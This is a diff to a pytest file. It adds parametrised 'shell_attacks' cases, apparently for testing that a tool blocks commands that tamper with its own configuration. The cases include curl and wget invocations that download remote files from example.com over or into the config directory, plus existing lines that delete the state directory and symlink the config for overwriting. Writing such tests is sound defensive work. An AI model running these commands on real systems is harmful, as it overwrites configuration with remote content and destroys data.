@@ -141,6 +141,18 @@ def shell_attacks() -> list[Any]:
         pytest.param("find $JOUET_STATE_DIR_VALUE -delete", id="find-delete-state"),
         pytest.param("ln -s $JOUET_CONFIG_DIR_VALUE /tmp/j && echo x > /tmp/j/config.toml",
                      id="ln-a-second-name-for-config-then-write"),
+        pytest.param(f"curl -sSo {config} https://example.com/c", id="curl-clustered-o-over-config"),
+        pytest.param("cd $JOUET_CONFIG_DIR_VALUE && curl -sSLO https://example.com/config.toml?raw=1",
+                     id="curl-remote-name-into-config-dir"),
+        pytest.param("curl --output-dir $JOUET_CONFIG_DIR_VALUE -O https://example.com/config.toml",
+                     id="curl-output-dir-remote-name"),
+        pytest.param("cd $JOUET_CONFIG_DIR_VALUE && curl -OJ https://example.com/c", id="curl-server-named-file"),
+        pytest.param(f"curl -D {config} https://example.com", id="curl-dump-header-over-config"),
+        pytest.param("cd $JOUET_CONFIG_DIR_VALUE && wget -q https://example.com/config.toml",
+                     id="wget-into-config-dir"),
+        pytest.param("wget -P $JOUET_CONFIG_DIR_VALUE https://example.com/config.toml", id="wget-directory-prefix"),
+        pytest.param(f"wget -qO{config} https://example.com/c", id="wget-attached-O-over-config"),
+        pytest.param("cd $JOUET_CONFIG_DIR_VALUE && wget -qr https://example.com/", id="wget-recursive-into-config"),
     ]
 
 
